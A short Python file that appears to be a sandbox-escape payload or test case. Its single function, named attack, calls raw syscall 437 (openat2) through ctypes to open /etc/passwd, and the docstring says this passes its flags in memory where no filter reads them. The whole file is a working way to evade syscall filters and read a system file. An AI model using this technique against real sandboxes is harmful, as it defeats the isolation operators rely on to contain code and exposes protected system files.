"""Open with the call that takes its flags in memory, where no filter reads them."""
import ctypes


def attack():
    return ctypes.CDLL(None).syscall(437, -100, b"/etc/passwd", ctypes.create_string_buffer(24), ctypes.c_size_t(24))
